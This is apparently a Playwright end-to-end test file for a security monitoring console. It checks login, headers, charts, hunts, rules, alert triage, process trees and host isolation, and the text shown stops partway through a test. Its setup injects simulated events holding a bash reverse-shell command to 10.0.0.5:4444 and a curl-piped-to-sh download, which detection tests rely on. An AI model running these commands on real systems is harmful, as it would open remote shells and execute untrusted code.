// The management console in a real browser (Debian's chromium) against a real server and a real in-process agent
// whose source emits injected events: login, overview charts, hosts, hunt (inline errors, rows, charts, autocomplete),
// process tree, alert triage, keyboard-only use, role-based hiding, session expiry, CSP and no console errors.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { categories } from '@vigil/schema';
import { ADMIN_PASSWORD, ApiClient, cleanup, request, waitFor, type ServerHandle } from '../harness.js';
import { activity, launchBrowser, login, openTab, processStart, screenshotPath, startConsoleServer, startInjectedAgent, uniqueId, visit, type ConsoleTab, type InjectedAgent } from './browser.js';

let server: ServerHandle;
let api: ApiClient;
let browser: Browser;
let agent: InjectedAgent;
let host: string;
let admin: ConsoleTab;
const marker = `vigil-console-${uniqueId()}`;
const REVERSE_SHELL = 'Shell Reverse Connection Through /dev/tcp or /dev/udp';
const DOWNLOAD_TO_SHELL = 'Download Piped Into a Shell or Interpreter';
const entity = { sshd: `sshd-${marker}`, bash: `bash-${marker}`, curl: `curl-${marker}` };

before(async () => {
  browser = await launchBrowser();
  server = await startConsoleServer();
  api = await new ApiClient(server).login();
  agent = await startInjectedAgent(server, api);
  host = agent.hostname;
  agent.stats.lost = 3;
  agent.stats.filtered = 7;
  // A known attack chain: sshd → bash reverse shell (connects out, resolves a name, writes a file) → curl piped to sh.
  await agent.emit([
    processStart(entity.sshd, null, 900, '/usr/sbin/sshd', 'sshd -D'),
    processStart(entity.bash, entity.sshd, 901, '/usr/bin/bash', `bash -c bash -i >& /dev/tcp/10.0.0.5/4444 0>&1 # ${marker}`, { 'process.parent.pid': 900 }),
    activity(entity.bash, 901, 'dns', 'query', { 'dns.question.name': 'evil.example.com' }),
    activity(entity.bash, 901, 'network', 'connect', { 'destination.ip': '10.0.0.5', 'destination.port': 4444, 'network.transport': 'tcp' }),
    activity(entity.bash, 901, 'file', 'create', { 'file.path': '/tmp/.x.sh' }),
    processStart(entity.curl, entity.bash, 902, '/usr/bin/curl', `curl -s http://203.0.113.7/x | sh # ${marker}`, { 'process.parent.pid': 901 }),
    ...Array.from({ length: 30 }, (_, i) => processStart(`ls-${marker}-${i}`, entity.sshd, 1000 + i, '/usr/bin/ls', `ls -la /srv/${i} ${marker}`)),
  ]);
  // Older file events: the host timeline pages through them (200 per page).
  const old = Date.now() - 3_600_000;
  await agent.emit(Array.from({ length: 220 }, (_, i) => ({ ...activity(`cron-${marker}`, 77, 'file', 'modify', { 'file.path': `/var/log/app-${i}.log` }), '@timestamp': new Date(old + i * 1000).toISOString() })));
  await waitFor('both alerts', async () => {
    const alerts = (await api.get(`/api/v1/alerts?host_id=${agent.agentId}`)).body as { ruleTitle: string }[];
    return [REVERSE_SHELL, DOWNLOAD_TO_SHELL].every((t) => alerts.some((a) => a.ruleTitle === t)) || undefined;
  }, 15_000);
  admin = await openTab(browser, server);
  await login(admin.page);
});

after(async () => {
  await browser?.close();
  await agent?.stop();
  await cleanup();
});

async function shot(page: Page, name: string): Promise<void> {
  const path = screenshotPath(name);
  if (path) await page.screenshot({ path });
}

/** An attribute of the focused element (page code given as text: this project has no DOM types). */
function activeAttribute(page: Page, name: string): Promise<string | null> {
  return page.evaluate<string | null>(`document.activeElement ? document.activeElement.getAttribute(${JSON.stringify(name)}) : null`);
}

async function alertsOfHost(): Promise<{ id: string; ruleTitle: string; status: string; assignee: string | null }[]> {
  return (await api.get(`/api/v1/alerts?host_id=${agent.agentId}&limit=100`)).body;
}

test('the console is served with a strict CSP, security headers, long-cached hashed assets and an SPA fallback', async () => {
  const index = await request(`${server.apiUrl}/`, { ca: server.caPem });
  assert.equal(index.status, 200);
  assert.match(String(index.headers['content-type']), /^text\/html/);
  const csp = String(index.headers['content-security-policy']);
  for (const directive of ["default-src 'none'", "script-src 'self'", "style-src 'self'", "frame-ancestors 'none'", "object-src 'none'", "base-uri 'none'"]) assert.ok(csp.includes(directive), `CSP has ${directive}: ${csp}`);
  assert.ok(!csp.includes('unsafe-inline') && !csp.includes('unsafe-eval'), csp);
  assert.equal(index.headers['x-content-type-options'], 'nosniff');
  assert.equal(index.headers['x-frame-options'], 'DENY');
  assert.equal(index.headers['cache-control'], 'no-store');
  assert.doesNotMatch(index.text, /<script(?![^>]*\bsrc=)[^>]*>/, 'no inline script in index.html');
  assert.match(index.text, /<meta name="vigil-session" content="none">/);

  const client = await request(`${server.apiUrl}/hosts/some-host?tab=timeline`, { ca: server.caPem });
  assert.equal(client.status, 200);
  assert.equal(client.text, index.text, 'client routes answer the console page');

  const script = /<script[^>]+src="(\/assets\/[^"]+\.js)"/.exec(index.text)?.[1];
  const style = /<link[^>]+href="(\/assets\/[^"]+\.css)"/.exec(index.text)?.[1];
  assert.ok(script && style, index.text);
  const js = await request(`${server.apiUrl}${script}`, { ca: server.caPem });
  assert.equal(js.status, 200);
  assert.equal(js.headers['content-type'], 'text/javascript; charset=utf-8');
  assert.equal(js.headers['cache-control'], 'public, max-age=31536000, immutable');
  assert.equal(js.headers['x-content-type-options'], 'nosniff');
  const css = await request(`${server.apiUrl}${style}`, { ca: server.caPem });
  assert.equal(css.headers['content-type'], 'text/css; charset=utf-8');
  const icon = await request(`${server.apiUrl}/favicon.svg`, { ca: server.caPem });
  assert.equal(icon.headers['content-type'], 'image/svg+xml');

  for (const path of ['/assets/missing-0000.js', '/assets/..%2Findex.html', '/assets/.hidden.js', '/some/page.php', '/api/v1/no-such-route', '/agent/v1/events']) {
    const reply = await request(`${server.apiUrl}${path}`, { ca: server.caPem });
    assert.equal(reply.status, 404, `${path} → ${reply.status}`);
    assert.equal(reply.body.error.code, 'not_found', path);
  }
  const metrics = await request(`${server.apiUrl}/metrics`, { ca: server.caPem });
  assert.equal(metrics.status, 401, 'API routes keep their own answers');
});

test('login with a wrong password is refused in place; the right one shows the user and role; logout returns to the form', async () => {
  const tab = await openTab(browser, server);
  const { page } = tab;
  await page.goto('/');
  await page.getByLabel('User name').fill('admin');
  await page.getByLabel('Password').fill('not-the-password');
  await page.getByRole('button', { name: 'Log in' }).click();
  await page.getByTestId('login-error').waitFor();
  assert.match((await page.getByTestId('login-error').textContent()) ?? '', /wrong user name or password/);
  assert.equal(await page.getByTestId('role').count(), 0);
  await page.getByLabel('Password').fill(ADMIN_PASSWORD);
  await page.getByRole('button', { name: 'Log in' }).click();
  await page.getByTestId('role').waitFor();
  assert.equal(await page.getByTestId('role').textContent(), 'admin');
  assert.match((await page.getByTestId('who').textContent()) ?? '', /admin/);
  await page.locator('#page-title', { hasText: 'Overview' }).waitFor();
  const problems = tab.takeProblems().filter((p) => !/status of 401/.test(p));
  assert.deepEqual(problems, [], 'only the refused login logged an error');
  await page.getByRole('button', { name: 'Log out' }).click();
  await page.getByText('You are logged out.').waitFor();
  const me = await page.evaluate<number>("fetch('/api/v1/auth/me').then((r) => r.status)");
  assert.equal(me, 401, 'the session ended on the server');
  await tab.context.close();
});

test('the first load (login page, then the overview) is brotli-compressed and under 1 MB on the wire, as the browser measured it', async () => {
  const tab = await openTab(browser, server);
  const { page } = tab;
  const responses: { url: string; type: string; encoding: string | null; vary: string | null; cache: string | null; bytes: number }[] = [];
  const pending: Promise<void>[] = [];
  page.on('response', (response) => {
    pending.push(
      (async () => {
        const sizes = await response.request().sizes();
        responses.push({
          url: new URL(response.url()).pathname,
          type: response.request().resourceType(),
          encoding: await response.headerValue('content-encoding'),
          vary: await response.headerValue('vary'),
          cache: await response.headerValue('cache-control'),
          bytes: sizes.responseBodySize + sizes.responseHeadersSize,
        });
      })(),
    );
  });
  await login(page);
  await page.locator('#page-title', { hasText: 'Overview' }).waitFor();
  await page.waitForLoadState('networkidle');
  await Promise.all(pending);
  const assets = responses.filter((r) => r.url.startsWith('/assets/'));
  assert.ok(assets.some((r) => r.url.endsWith('.js')) && assets.some((r) => r.url.endsWith('.css')), JSON.stringify(responses.map((r) => r.url)));
  for (const asset of assets) {
    assert.equal(asset.encoding, 'br', `${asset.url} is sent brotli-compressed`);
    assert.equal(asset.vary, 'Accept-Encoding', asset.url);
    assert.equal(asset.cache, 'public, max-age=31536000, immutable', asset.url);
  }
  const total = responses.reduce((sum, r) => sum + r.bytes, 0);
  const assetBytes = assets.reduce((sum, r) => sum + r.bytes, 0);
  console.log(`first load: ${responses.length} responses, ${(total / 1024).toFixed(1)} KiB on the wire (${assets.length} assets ${(assetBytes / 1024).toFixed(1)} KiB)`);
  assert.ok(total < 1024 * 1024, `first load ${total} bytes on the wire exceeds 1 MB`);
  await tab.context.close();
});

test('the overview charts alerts by severity over time, top rules and hosts, host states and agent health from injected data', async () => {
  const { page } = admin;
  await visit(page, '/', 'Overview');
  const high = page.locator('[data-chart="alerts-over-time"] rect[data-series="high"]');
  await high.first().waitFor();
  const highTotal = (await high.evaluateAll((rects) => rects.map((r) => Number(r.getAttribute('data-value'))))).reduce((a, b) => a + b, 0);
  assert.ok(highTotal >= 1, `high alerts charted: ${highTotal}`);
  assert.ok((await page.locator('[data-chart="alerts-over-time"] rect[data-series="medium"]').count()) >= 1, 'medium alerts charted');
  await page.locator('[data-chart="open-by-level"] [data-segment="high"]').waitFor();
  const topRules = await page.locator('[data-chart="top-rules"] a').evaluateAll((links) => links.map((a) => a.getAttribute('aria-label')));
  assert.ok(topRules.some((label) => label?.startsWith(REVERSE_SHELL)), JSON.stringify(topRules));
  const topHosts = await page.locator('[data-chart="top-hosts"] a').evaluateAll((links) => links.map((a) => a.getAttribute('aria-label')));
  assert.ok(topHosts.some((label) => label?.startsWith(`${host}:`)), JSON.stringify(topHosts));
  await waitFor('host states', async () => ((await page.locator('[data-chart="host-states"] [data-segment="online"]').getAttribute('data-value')) === '1' ? true : undefined));
  const eventsPath = page.locator('[data-chart="events-over-time"] path[data-series="events"]');
  await waitFor('events charted', async () => (Number(await eventsPath.getAttribute('data-total')) >= 36 ? true : undefined));
  const row = page.getByTestId('agent-health').locator('tr', { hasText: host });
  await waitFor('lost and filtered events from the heartbeat', async () => ((await row.getByTestId('health-lost').textContent()) === '3' ? true : undefined), 10_000);
  assert.equal(await row.getByTestId('health-filtered').textContent(), '7');
  assert.equal(await page.getByTestId('stat-lost').locator('.stat-value').textContent(), '3');
  await shot(page, 'overview');
});

test('the hosts page lists the enrolled agent; its host page shows the timeline and processes', async () => {
  const { page } = admin;
  await visit(page, '/hosts', 'Hosts');
  const row = page.locator(`[data-host-id="${agent.agentId}"]`);
  await row.waitFor();
  assert.match((await row.textContent()) ?? '', new RegExp(`${host}.*online`, 's'));
  await page.getByPlaceholder(/Search by name/).fill('no-such-host-anywhere');
  await row.waitFor({ state: 'detached' });
  await page.getByPlaceholder(/Search by name/).fill(host.slice(0, 2));
  await row.waitFor();
  await shot(page, 'hosts');
  await row.getByRole('link', { name: host }).click();
  await page.locator('#page-title', { hasText: host }).waitFor();
  const timeline = page.getByRole('grid', { name: 'Host timeline' });
  // Newest first: the last ls on top; 200 events per page, the rest after "Load older events".
  await timeline.getByRole('row').nth(1).getByText(`ls -la /srv/29 ${marker}`).waitFor();
  assert.equal(await timeline.getAttribute('data-total-rows'), '200');
  assert.ok((await timeline.getByRole('row').count()) < 60, 'the timeline renders only the rows in view');
  await page.getByRole('button', { name: 'Load older events' }).click();
  await waitFor('the second page', async () => ((await timeline.getAttribute('data-total-rows')) === '256' ? true : undefined));
  await page.getByRole('button', { name: 'Load older events' }).waitFor({ state: 'detached' });
  await timeline.focus();
  await page.keyboard.press('End');
  await timeline.getByText('/var/log/app-0.log').waitFor();
  // The category filter offers every category of the schema (from the server's field list), not a list of its own.
  const categorySelect = page.getByLabel('Category');
  await categorySelect.locator('option[value="system"]').waitFor({ state: 'attached' });
  const offered = await categorySelect.locator('option').evaluateAll((options) => options.map((o) => (o as unknown as { value: string }).value));
  assert.deepEqual(offered, ['', ...categories.map((c) => c.name).sort()]);
  await page.getByRole('tab', { name: 'Processes' }).click();
  await page.getByRole('grid', { name: 'Processes' }).getByText(`ls -la /srv/25 ${marker}`).first().waitFor();
  await shot(page, 'host');
});

test('a hunt with a syntax error shows the error inline at its column', async () => {
  const { page } = admin;
  await visit(page, '/hunt', 'Hunt');
  const editor = page.getByLabel('Hunt query');
  await editor.fill('process where proces.name == "bash"');
  await editor.press('Control+Enter');
  const error = page.getByTestId('hunt-error');
  await error.waitFor();
  assert.equal(await error.getAttribute('data-line'), '1');
  assert.equal(await error.getAttribute('data-column'), '15');
  assert.match((await error.textContent()) ?? '', /unknown field "proces\.name".*did you mean "process\.name"/);
  const mark = page.getByTestId('hunt-error-mark');
  assert.equal(await mark.textContent(), 'proces.name');
  assert.equal(await mark.getAttribute('data-offset'), '14');
  // The mark lies under the misspelt word: to the right of "process where " and left of the rest.
  const [markBox, editorBox] = [await mark.boundingBox(), await editor.boundingBox()];
  assert.ok(markBox && editorBox && markBox.x > editorBox.x + 50 && markBox.x < editorBox.x + 300 && Math.abs(markBox.y - editorBox.y) < 30, JSON.stringify({ markBox, editorBox }));
  assert.equal(await editor.getAttribute('aria-invalid'), 'true');
  // A query ending too early points past its end.
  await editor.fill('process where process.name ==');
  await page.getByRole('button', { name: 'Run hunt' }).click();
  await waitFor('the end-of-query error', async () => ((await error.getAttribute('data-column')) === '30' ? true : undefined));
  assert.equal(await page.getByTestId('hunt-error-mark').getAttribute('data-offset'), '29');
  await shot(page, 'hunt-error');
  assert.ok(admin.takeProblems().every((p) => /status of 400/.test(p)), 'only the refused queries logged errors');
});

test('a valid hunt renders its rows; stats and timechart render charts', async () => {
  const { page } = admin;
  await visit(page, '/hunt', 'Hunt');
  const editor = page.getByLabel('Hunt query');
  await editor.fill(`process where process.command_line contains "${marker}" and process.name == "ls"`);
  await editor.press('Control+Enter');
  const results = page.locator('[data-testid="hunt-results"][data-kind="events"]');
  await results.waitFor();
  assert.equal(await results.getAttribute('data-rows'), '30');
  const grid = page.getByRole('grid', { name: 'Hunt results' });
  await grid.getByText(`ls -la /srv/7 ${marker}`).first().waitFor();
  await grid.getByRole('row').nth(3).click();
  await page.getByTestId('event-details').waitFor();
  assert.match((await page.getByTestId('event-details').textContent()) ?? '', /process\.command_line/);
  await page.getByRole('button', { name: 'Close' }).click();

  await editor.fill(`process where process.command_line contains "${marker}" | stats count() as n by process.name | sort n desc`);
  await editor.press('Control+Enter');
  await page.locator('[data-testid="hunt-results"][data-kind="stats"]').waitFor();
  const bars = await page.locator('[data-chart="hunt-stats"] rect[data-bar]').evaluateAll((rects) => rects.map((r) => Number(r.getAttribute('data-value'))));
  assert.deepEqual(bars, [30, 1, 1], 'ls, then bash and curl (sshd has no marker)');
  await shot(page, 'hunt-stats');

  await editor.fill(`process where process.command_line contains "${marker}" | timechart span=1m count() by process.name`);
  await editor.press('Control+Enter');
  await page.locator('[data-testid="hunt-results"][data-kind="timechart"]').waitFor();
  const series = await page.locator('[data-chart="hunt-timechart"] [data-series]').evaluateAll((els) => [...new Set(els.map((e) => e.getAttribute('data-series')))].sort());
  assert.deepEqual(series, ['bash', 'curl', 'ls']);
  assert.deepEqual(admin.takeProblems(), []);
});

test('the query editor suggests schema fields and pipes; Tab accepts a suggestion', async () => {
  const { page } = admin;
  await visit(page, '/hunt', 'Hunt');
  const editor = page.getByLabel('Hunt query');
  await editor.fill('');
  await editor.pressSequentially('process where process.comm');
  const suggestions = page.getByTestId('suggestions');
  await suggestions.getByText('process.command_line', { exact: true }).waitFor();
  await editor.press('Tab');
  assert.equal(await editor.inputValue(), 'process where process.command_line ');
  await editor.pressSequentially('contains "x" | st');
  await suggestions.getByText('stats', { exact: true }).waitFor();
  await editor.press('Enter');
  assert.equal(await editor.inputValue(), 'process where process.command_line contains "x" | stats ');
  await editor.press('Escape');
  assert.equal(await suggestions.count(), 0);
});

test('a hunt is saved with a schedule, listed, run by hand and deleted', async () => {
  const { page } = admin;
  await visit(page, '/hunt', 'Hunt');
  await page.getByLabel('Hunt query').fill(`process where process.command_line contains "${marker}" and process.name == "curl"`);
  await page.getByRole('button', { name: 'Save…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Save hunt' });
  await dialog.getByLabel('Name').fill(`curl piped ${marker}`);
  await dialog.getByLabel('Schedule').selectOption({ label: 'every hour' });
  await dialog.getByLabel('Alert level').selectOption('high');
  await dialog.getByRole('button', { name: 'Save' }).click();
  await dialog.getByText(/Saved\./).waitFor();
  await dialog.getByRole('button', { name: 'Close' }).click();
  await page.getByRole('tab', { name: 'Saved and scheduled' }).click();
  const row = page.getByTestId('saved-hunts').locator('tr', { hasText: `curl piped ${marker}` });
  await row.waitFor();
  assert.match((await row.textContent()) ?? '', /every 1 h, alert at ≥ 1/);
  await row.getByRole('button', { name: 'Run now' }).click();
  // A run by hand covers the events since the hunt's last run (the scheduler may already have run it once).
  await page.getByText(new RegExp(`curl piped ${marker}: \\d+ rows`)).waitFor();
  await row.getByRole('button', { name: 'Open' }).click();
  await page.locator('[data-testid="hunt-results"][data-rows="1"]').waitFor();
  await page.getByRole('tab', { name: 'Saved and scheduled' }).click();
  await row.getByRole('button', { name: 'Delete' }).click();
  await page.getByRole('dialog', { name: 'Delete saved hunt' }).getByRole('button', { name: 'Delete' }).click();
  await row.waitFor({ state: 'detached' });
  assert.deepEqual(admin.takeProblems(), []);
});

test('a rule is written with located validation problems, saved, found, disabled and enabled again', async () => {
  const { page } = admin;
  await visit(page, '/rules/new', 'New rule');
  const editor = page.locator('#rule-text');
  const id = '5f0e6a1c-2b3d-4e5f-8a9b-0c1d2e3f4a5b';
  await editor.fill(`title: Console test rule ${marker}\nid: ${id}\nlogsource:\n    product: linux\n    category: process_creation\ndetection:\n    selection:\n        CommandLine|contains: '${marker}'\n    condition: selection and missing\nlevel: low\n`);
  await page.getByRole('button', { name: 'Validate' }).click();
  const problems = page.getByTestId('problems');
  await problems.waitFor();
  assert.match((await problems.textContent()) ?? '', /:\d+:\d+/, 'problems are located by line and column');
  await page.getByRole('status').getByText('Not valid').waitFor();
  await editor.fill((await editor.inputValue()).replace('selection and missing', 'selection'));
  await page.getByRole('button', { name: 'Validate' }).click();
  await page.getByRole('status').getByText('Valid', { exact: true }).waitFor();
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  await page.locator('#page-title', { hasText: `Console test rule ${marker}` }).waitFor();
  await page.getByRole('button', { name: 'Run test' }).click();
  await page.getByTestId('retro-matches').waitFor();
  assert.ok((await page.getByTestId('retro-matches').locator('tbody tr').count()) >= 30, 'the rule matches the stored events');
  await visit(page, `/rules?q=${marker}`, 'Rules');
  const toggle = page.getByRole('switch', { name: `Disable Console test rule ${marker}` });
  await toggle.click();
  await page.getByRole('switch', { name: `Enable Console test rule ${marker}` }).click();
  await page.getByRole('switch', { name: `Disable Console test rule ${marker}` }).waitFor();
  assert.equal((await api.get(`/api/v1/rules/${id}`)).body.enabled, true);
  assert.ok(admin.takeProblems().every((p) => /status of 400/.test(p)));
});

test('the process tree of the alert renders the known chain with its connection, DNS name and file; nodes open their details', async () => {
  const { page } = admin;
  const alert = (await alertsOfHost()).find((a) => a.ruleTitle === REVERSE_SHELL)!;
  await visit(page, `/alerts/${alert.id}`, REVERSE_SHELL);
  const graph = page.getByTestId('process-graph');
  await graph.locator('[data-kind="process"]').first().waitFor();
  const nodes = await graph.locator('[data-node]').evaluateAll((els) => els.map((e) => `${e.getAttribute('data-kind')}:${e.textContent}`));
  for (const expected of ['process:sshd (900)', 'process:bash (901)', 'process:curl (902)', 'network:10.0.0.5:4444', 'dns:evil.example.com', 'file:.x.sh']) {
    assert.ok(nodes.some((n) => n.startsWith(expected)), `${expected} in ${JSON.stringify(nodes)}`);
  }
  assert.equal(await graph.locator('.graph-highlight').getAttribute('data-node'), entity.bash, 'the alert process is highlighted');
  await graph.locator(`[data-node="${entity.curl}"]`).click();
  assert.match((await page.getByTestId('graph-details').textContent()) ?? '', /curl -s http:\/\/203\.0\.113\.7\/x \| sh/);
  const transform = () => graph.locator('svg > g').getAttribute('transform');
  const before_ = await transform();
  await graph.getByRole('button', { name: 'Zoom in' }).click();
  assert.notEqual(await transform(), before_, 'zoom changes the view');
  await graph.locator(`[data-node="${entity.sshd}"]`).focus();
  await page.keyboard.press('Enter');
  assert.match((await page.getByTestId('graph-details').textContent()) ?? '', /sshd -D/);
  await shot(page, 'alert-process-tree');
  // Any process opens its tree from the host's processes: the same graph from the root of the chain.
  await visit(page, `/hosts/${agent.agentId}/processes/${entity.sshd}`, 'Process tree');
  await graph.locator(`[data-node="${entity.curl}"]`).waitFor();
  assert.equal(await graph.locator('[data-kind="process"]').count(), 33, 'sshd, bash, curl and 30 ls');
  assert.deepEqual(admin.takeProblems(), []);
});

test('alert triage changes status per alert, in bulk and on the alert page', async () => {
  const { page } = admin;
  const alerts = await alertsOfHost();
  const shell = alerts.find((a) => a.ruleTitle === REVERSE_SHELL)!;
  await visit(page, '/alerts', 'Alerts');
  await page.locator(`[data-alert-id="${shell.id}"]`).getByTestId('row-status').selectOption('acknowledged');
  await waitFor('the status change', async () => ((await alertsOfHost()).find((a) => a.id === shell.id)?.status === 'acknowledged' ? true : undefined));
  await page.getByRole('checkbox', { name: 'Select all shown alerts' }).check();
  await page.getByTestId('bulk-status').selectOption('in_progress');
  await page.getByTestId('bulk-apply').click();
  await waitFor('the bulk change', async () => ((await alertsOfHost()).every((a) => a.status === 'in_progress') ? true : undefined));
  await page.getByRole('tab', { name: /Incidents/ }).click();
  const incident = page.getByTestId('incident').filter({ hasText: REVERSE_SHELL });
  await incident.waitFor();
  const text = (await incident.textContent()) ?? '';
  assert.ok(text.includes(host) && text.includes(DOWNLOAD_TO_SHELL), `one incident holds the chain's alerts (same host, same process tree): ${text}`);
  // Triage of the incident reaches each of its alerts (server-side bulk).
  await incident.getByTestId('incident-status').selectOption('acknowledged');
  await incident.getByRole('button', { name: 'Assign incident to me' }).click();
  await waitFor('the incident triage on its alerts', async () => {
    const chain = (await alertsOfHost()).filter((a) => a.ruleTitle === REVERSE_SHELL || a.ruleTitle === DOWNLOAD_TO_SHELL);
    return chain.length === 2 && chain.every((a) => a.status === 'acknowledged' && a.assignee === 'admin') ? true : undefined;
  });
  const incidentId = await incident.getAttribute('data-incident-id');
  const served = (await api.get(`/api/v1/incidents/${incidentId}`)).body as { status: string; assignee: string; alerts: { ruleTitle: string }[] };
  assert.equal(served.status, 'acknowledged');
  assert.equal(served.assignee, 'admin');
  await incident.getByText('assigned to admin').waitFor();
  await shot(page, 'alerts');
  await visit(page, `/alerts/${shell.id}`, REVERSE_SHELL);
  await page.getByLabel('Status').selectOption('resolved');
  await page.getByLabel('Assignee').fill('alice');
  await page.getByRole('button', { name: 'Save triage' }).click();
  await waitFor('the triage', async () => {
    const a = (await alertsOfHost()).find((x) => x.id === shell.id);
    return a?.status === 'resolved' && a.assignee === 'alice' ? true : undefined;
  });
  // Comments: added on the alert page, shown with the signed-in author; an empty one cannot be sent.
  const note = `Reverse shell to 10.0.0.5 confirmed ${marker}`;
  assert.equal(await page.getByRole('button', { name: 'Add comment' }).isDisabled(), true);
  await page.getByLabel('Add a comment').fill(note);
  await page.getByRole('button', { name: 'Add comment' }).click();
  const comment = page.getByTestId('comment').filter({ hasText: note });
  await comment.waitFor();
  assert.match((await comment.textContent()) ?? '', /^admin · /);
  const stored = (await api.get(`/api/v1/alerts/${shell.id}/comments`)).body as { author: string; text: string }[];
  assert.deepEqual(stored.map((c) => [c.author, c.text]), [['admin', note]]);
  const entries = (await api.get('/api/v1/audit?limit=50')).body as { action: string; target: string }[];
  assert.ok(entries.some((e) => e.action === 'alert.comment' && e.target === shell.id), 'the comment is audited');
  await shot(page, 'alert-comments');
  assert.deepEqual(admin.takeProblems(), []);
});

const navigation: [string, string, string][] = [
  ['o', 'overview', 'Overview'],
  ['h', 'hosts', 'Hosts'],
  ['a', 'alerts', 'Alerts'],
  ['t', 'hunt', 'Hunt'],
  ['s', 'sweeps', 'IOC sweeps'],
  ['n', 'intel', 'Threat intel'],
  ['y', 'yara', 'YARA'],
  ['r', 'rules', 'Rules'],
  ['x', 'response', 'Response'],
  ['p', 'policies', 'Policies'],
  ['b', 'blocklist', 'Blocklist'],
  ['i', 'integrations', 'Integrations'],
  ['u', 'users', 'Users and access'],
  ['l', 'audit', 'Audit log'],
];

test('keyboard only: Tab reaches every page link in order, Enter opens it, g-shortcuts and / work, ? shows help', async () => {
  const { page } = admin;
  await visit(page, '/', 'Overview');
  await page.locator('body').focus();
  const reached: string[] = [];
  for (let i = 0; i < 40 && reached.length < navigation.length; i++) {
    await page.keyboard.press('Tab');
    const nav = await activeAttribute(page, 'data-nav');
    if (nav && !reached.includes(nav)) reached.push(nav);
  }
  assert.deepEqual(reached, navigation.map(([, id]) => id), 'Tab order reaches each page link in order');
  // Enter on a focused link opens its page and moves focus to the page heading.
  await page.locator('[data-nav="rules"]').focus();
  await page.keyboard.press('Enter');
  await page.locator('#page-title', { hasText: 'Rules' }).waitFor();
  await waitFor('focus on the heading', async () => ((await activeAttribute(page, 'id')) === 'page-title' ? true : undefined));
  const focusStyle = await page.evaluate<string>('getComputedStyle(document.activeElement).outlineStyle');
  assert.notEqual(focusStyle, 'none', 'the focused heading shows a focus ring');
  for (const [key, , title] of navigation) {
    await page.locator('#page-title').focus();
    await page.keyboard.press('g');
    await page.keyboard.press(key);
    await page.locator('#page-title', { hasText: new RegExp(`^${title}$`) }).waitFor();
  }
  await page.keyboard.press('g');
  await page.keyboard.press('h');
  await page.locator('#page-title', { hasText: 'Hosts' }).waitFor();
  await page.keyboard.press('/');
  assert.equal(await activeAttribute(page, 'type'), 'search', '/ focuses the search field');
  await page.keyboard.press('Escape');
  await page.keyboard.press('?');
  const help = page.getByRole('dialog', { name: 'Keyboard shortcuts' });
  await help.waitFor();
  await page.keyboard.press('Escape');
  await help.waitFor({ state: 'detached' });
  assert.deepEqual(admin.takeProblems(), []);
});

test('the host page isolates and releases the host with a reason and live progress; the state shows everywhere', async () => {
  const { page } = admin;
  await visit(page, `/hosts/${agent.agentId}`, host);
  const isolation = page.getByTestId('isolation');
  await isolation.getByText('not isolated').waitFor();
  await page.getByRole('button', { name: 'Isolate host…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Isolate host' });
  await dialog.getByTestId('action-hosts').getByText(host).waitFor();
  // The catalog's verification statement is shown with the action.
  assert.match((await dialog.getByTestId('action-verification').textContent()) ?? '', /^Verified by: .*vigil_isolation/);
  await dialog.getByLabel('Reason *').fill(`console test ${marker}`);
  await dialog.getByRole('button', { name: 'Run on 1 host' }).click();
  await dialog.locator('[data-testid="task-progress"] [data-state="succeeded"]').waitFor({ timeout: 20_000 });
  assert.match((await dialog.getByTestId('task-progress').textContent()) ?? '', /isolated \(simulated by the test agent\)/);
  assert.equal(agent.isolated, true, 'the agent ran the signed task');
  await dialog.getByRole('button', { name: 'Close' }).click();
  await isolation.getByText('isolated', { exact: true }).waitFor();
  // The agent's heartbeat reports the isolation it checked; the panel shows it once newer than the task.
  await isolation.getByTestId('isolation-verified').waitFor({ timeout: 20_000 });
  assert.match((await isolation.textContent()) ?? '', /isolated \(verified by agent at \d{4}-\d\d-\d\d \d\d:\d\d:\d\d\)/);
  const reported = (await api.get(`/api/v1/hosts/${agent.agentId}`)).body as { isolation: { state: string; since: string | null } | null };
  assert.equal(reported.isolation?.state, 'isolated');
  assert.ok(reported.isolation?.since);
  await shot(page, 'host-isolated');
  await visit(page, '/hosts?state=isolated', 'Hosts');
  await page.locator(`[data-host-id="${agent.agentId}"]`).getByText('isolated').waitFor();
  await visit(page, '/', 'Overview');
  await waitFor('the isolated count', async () => ((await page.getByTestId('stat-isolated').locator('.stat-value').textContent()) === '1' ? true : undefined));

  await visit(page, `/hosts/${agent.agentId}`, host);
  await page.getByRole('button', { name: 'Release isolation…' }).click();
  const release = page.getByRole('dialog', { name: 'Release host isolation' });
  await release.getByLabel('Reason *').fill('contained');
  await release.getByRole('button', { name: 'Run on 1 host' }).click();
  await release.locator('[data-testid="task-progress"] [data-state="succeeded"]').waitFor({ timeout: 20_000 });
  await release.getByRole('button', { name: 'Close' }).click();
  await isolation.getByText('not isolated').waitFor();
  assert.equal(agent.isolated, false);
  await waitFor('the agent to report the release', async () => (((await api.get(`/api/v1/hosts/${agent.agentId}`)).body as { isolation: { state: string } | null }).isolation?.state === 'released' ? true : undefined), 15_000);

  // A destructive action asks again with the server's confirmation before anything is created.
  await page.getByRole('button', { name: 'Run action…' }).click();
  const run = page.getByRole('dialog', { name: 'Run a response action' });
  await run.getByLabel('Action').locator('option[value="file.delete"]').waitFor({ state: 'attached' });
  await run.getByLabel('Action').selectOption('file.delete');
  await run.getByText(/Deletes a file/).waitFor();
  await run.getByLabel('path *').fill('/tmp/not-there');
  await run.getByLabel('Reason *').fill('test the confirmation');
  await run.getByRole('button', { name: 'Continue…' }).click();
  const confirm = page.getByRole('dialog', { name: 'Confirm Delete file' });
  await confirm.getByRole('button', { name: /^Yes, delete file$/ }).waitFor();
  await confirm.getByRole('button', { name: 'Back' }).click();
  await run.getByRole('button', { name: 'Cancel' }).click();
  const deletes = (await api.get(`/api/v1/response/tasks?host_id=${agent.agentId}&action=file.delete`)).body as unknown[];
  assert.equal(deletes.length, 0, 'going back created no task');

  await visit(page, '/response', 'Response');
  const rows = await page.getByTestId('tasks-table').locator('tbody tr').evaluateAll((trs) => trs.map((tr) => tr.textContent ?? ''));
  assert.ok(rows.some((r) => /host\.isolate.*succeeded/.test(r)) && rows.some((r) => /host\.release.*succeeded/.test(r)), JSON.stringify(rows));
  await page.getByTestId('tasks-table').locator('tbody tr').first().getByRole('button').click();
  await page.getByTestId('task-details').getByText('contained').waitFor();
  await shot(page, 'response');
  await page.keyboard.press('Escape');
  await visit(page, '/audit?tab=response', 'Audit log');
